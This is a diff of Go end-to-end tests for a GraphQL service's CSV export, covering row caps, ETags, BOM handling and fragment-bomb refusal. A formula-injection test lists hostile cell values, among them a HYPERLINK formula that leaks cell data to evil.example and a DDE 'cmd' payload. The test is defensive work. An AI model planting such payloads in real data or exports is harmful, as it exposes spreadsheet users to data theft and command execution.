@@ -1,29 +1,30 @@
-package app
+package e2e
 
 import (
 	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"net/http"
-	"net/http/httptest"
 	"net/url"
+	"strconv"
 	"strings"
 	"testing"
 
+	"policygraph/internal/testenv"
 	"policygraph/storage"
 )
 
 // saveQuery saves a query under name, failing the test on any error.
-func saveQuery(t *testing.T, srv *httptest.Server, name, q string) {
+func saveQuery(t *testing.T, srv *testenv.Service, name, q string) {
 	t.Helper()
-	r := post(t, srv, testToken, `mutation($n: String!, $q: String!) { saveQuery(input: { name: $n, query: $q }) { url } }`, map[string]any{"n": name, "q": q})
+	r := srv.Post(t, testenv.Token, `mutation($n: String!, $q: String!) { saveQuery(input: { name: $n, query: $q }) { url } }`, map[string]any{"n": name, "q": q})
 	if len(r.Errors) > 0 {
 		t.Fatalf("save %s: %+v", name, r.Errors)
 	}
 }
 
 // csvGET fetches a saved query's CSV form: its status, rows and raw body.
-func csvGET(t *testing.T, srv *httptest.Server, path string, params url.Values, header map[string]string) (*http.Response, [][]string, string) {
+func csvGET(t *testing.T, srv *testenv.Service, path string, params url.Values, header map[string]string) (*http.Response, [][]string, string) {
 	t.Helper()
 	if params == nil {
 		params = url.Values{}
@@ -46,11 +47,11 @@ func csvGET(t *testing.T, srv *httptest.Server, path string, params url.Values, 
 // errorOf decodes a JSON error answer: its first error's code and extensions.
 func errorOf(t *testing.T, body string) (string, map[string]any) {
 	t.Helper()
-	var r gqlResponse
+	var r testenv.Response
 	if err := json.Unmarshal([]byte(body), &r); err != nil || len(r.Errors) == 0 {
 		t.Fatalf("not an error answer: %v %s", err, body)
 	}
-	return r.code(), r.Errors[0].Extensions
+	return r.Code(), r.Errors[0].Extensions
 }
 
 // x4 is the attack of issue 9, item 2: four aliased sibling lists, which the
@@ -67,7 +68,7 @@ const x4 = `query X4($n: Int = 20) {
 // refused as one CSV table, naming the tables; each table asked for by name
 // has one row per element of its list, whatever the siblings hold.
 func TestCSVSiblingListsNeverMultiply(t *testing.T) {
-	srv, _ := newTestServer(t)
+	srv := testenv.Server(t)
 	saveQuery(t, srv, "x4", x4)
 	for _, n := range []string{"30", "200"} {
 		resp, _, body := csvGET(t, srv, "/q/x4", url.Values{"n": {n}}, nil)
@@ -120,7 +121,7 @@ const eventSaved = `query Event($slug: String = "waic-2023") {
 // unrelated sponsors and participants before), with the event's own fields
 // on every row, in selection order.
 func TestCSVOneTablePerList(t *testing.T) {
-	srv, _ := newTestServer(t)
+	srv := testenv.Server(t)
 	saveQuery(t, srv, "event", eventSaved)
 	resp, _, body := csvGET(t, srv, "/q/event", nil, nil)
 	if resp.StatusCode != http.StatusBadRequest {
@@ -194,7 +195,7 @@ func slicesIndex(s []string, v string) int {
 // by default the innermost list; a list higher on the chain when named (the
 // lists inside it are then other tables).
 func TestCSVNestedChain(t *testing.T) {
-	srv, _ := newTestServer(t)
+	srv := testenv.Server(t)
 	saveQuery(t, srv, "headline", headlineSaved)
 	_, jsonBody := getURL(t, srv.URL+"/q/headline", nil)
 	var d struct {
@@ -251,11 +252,9 @@ func TestCSVNestedChain(t *testing.T) {
 // TestCSVCaps: a table over -csv-max-rows or -csv-max-bytes is refused before
 // its first byte, 400 CSV_TOO_LARGE, never cut; one at the cap is whole.
 func TestCSVCaps(t *testing.T) {
-	cfg := testConfig()
-	cfg.csvMaxRows = 5
-	srv, _ := newTestServer(t) // no caps: the reference
-	capped, _ := newTestServerWith(t, cfg)
-	for _, s := range []*httptest.Server{srv, capped} {
+	srv := testenv.Server(t) // no caps: the reference
+	capped := testenv.Server(t, "-csv-max-rows", "5")
+	for _, s := range []*testenv.Service{srv, capped} {
 		saveQuery(t, s, "x4", x4)
 	}
 	resp, rows, _ := csvGET(t, capped, "/q/x4", url.Values{"n": {"5"}, "table": {"a.nodes"}}, nil)
@@ -273,9 +272,7 @@ func TestCSVCaps(t *testing.T) {
 		max    int64
 		status int
 	}{{int64(len(full)), 200}, {int64(len(full)) - 1, 400}} {
-		cfg := testConfig()
-		cfg.csvMaxBytes = tc.max
-		s, _ := newTestServerWith(t, cfg)
+		s := testenv.Server(t, "-csv-max-bytes", strconv.FormatInt(tc.max, 10))
 		saveQuery(t, s, "x4", x4)
 		resp, _, body := csvGET(t, s, "/q/x4", url.Values{"n": {"50"}, "table": {"a.nodes"}}, nil)
 		if resp.StatusCode != tc.status {
@@ -295,10 +292,10 @@ func TestCSVCaps(t *testing.T) {
 // TestCSVFormulaInjection: a cell a spreadsheet would run as a formula starts
 // with ' (issue 9, item 8: an entity named =HYPERLINK(...) came out verbatim).
 func TestCSVFormulaInjection(t *testing.T) {
-	srv, _ := newTestServer(t)
+	srv := testenv.Server(t)
 	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "=1;2", "plain -dash"}
 	for _, n := range names {
-		r := post(t, srv, testToken, `mutation($n: String!) { createEntity(input: {kind: TOPIC, name: $n}) { id } }`, map[string]any{"n": n})
+		r := srv.Post(t, testenv.Token, `mutation($n: String!) { createEntity(input: {kind: TOPIC, name: $n}) { id } }`, map[string]any{"n": n})
 		if len(r.Errors) > 0 {
 			t.Fatalf("create %q: %+v", n, r.Errors)
 		}
@@ -333,7 +330,7 @@ func TestCSVFormulaInjection(t *testing.T) {
 // TestCSVColumnsInSelectionOrder: columns follow the query, fragments and
 // aliases included, not the alphabet.
 func TestCSVColumnsInSelectionOrder(t *testing.T) {
-	srv, _ := newTestServer(t)
+	srv := testenv.Server(t)
 	saveQuery(t, srv, "order", `query { zz: organization(slug: "qualcomm") { slug ...F name } }
 fragment F on Organization { country kind }`)
 	_, rows, body := csvGET(t, srv, "/q/order", nil, nil)
@@ -346,7 +343,7 @@ fragment F on Organization { country kind }`)
 // TestCSVByteOrderMark: bom=1 starts the table with a UTF-8 BOM, so Excel
 // reads Vietnamese names as UTF-8; by default there is none.
 func TestCSVByteOrderMark(t *testing.T) {
-	srv, _ := newTestServer(t)
+	srv := testenv.Server(t)
 	saveQuery(t, srv, "headline", headlineSaved)
 	for bom, want := range map[string]bool{"": false, "0": false, "1": true, "true": true} {
 		params := url.Values{}
@@ -371,7 +368,7 @@ func TestCSVByteOrderMark(t *testing.T) {
 // request with the JSON ETag was answered 304), as have two tables or BOM
 // choices; each form's own ETag gets a 304.
 func TestCSVETags(t *testing.T) {
-	srv, _ := newTestServer(t)
+	srv := testenv.Server(t)
 	saveQuery(t, srv, "headline", headlineSaved)
 	get := func(params url.Values, inm string) *http.Response {
 		t.Helper()
@@ -443,11 +440,11 @@ func TestCSVETags(t *testing.T) {
 // TestCSVParametersAreNotVariables: format, table and bom are /q/'s own
 // parameters, so a saved query may not declare variables of those names.
 func TestCSVParametersAreNotVariables(t *testing.T) {
-	srv, _ := newTestServer(t)
+	srv := testenv.Server(t)
 	for _, v := range []string{"format", "table", "bom"} {
-		r := post(t, srv, testToken, `mutation($q: String!) { saveQuery(input: { name: "reserved", query: $q }) { url } }`,
+		r := srv.Post(t, testenv.Token, `mutation($q: String!) { saveQuery(input: { name: "reserved", query: $q }) { url } }`,
 			map[string]any{"q": `query($` + v + `: String) { entity(slug: $` + v + `) { name } }`})
-		if r.code() != "INVALID_ARGUMENT" || !strings.Contains(r.Errors[0].Message, "$"+v) {
+		if r.Code() != "INVALID_ARGUMENT" || !strings.Contains(r.Errors[0].Message, "$"+v) {
 			t.Errorf("$%s: %+v", v, r.Errors)
 		}
 	}
@@ -457,7 +454,8 @@ func TestCSVParametersAreNotVariables(t *testing.T) {
 // expanded, before the API's limits see it; a saved query spreading fragments
 // into fragments (2^20 fields) is refused after a bounded walk, not expanded.
 func TestCSVFragmentBomb(t *testing.T) {
-	srv, g := newTestServer(t)
+	srv := testenv.Server(t)
+	g := srv.Graph
 	var b strings.Builder
 	b.WriteString("{ ...F0 }\n")
 	for i := range 20 {
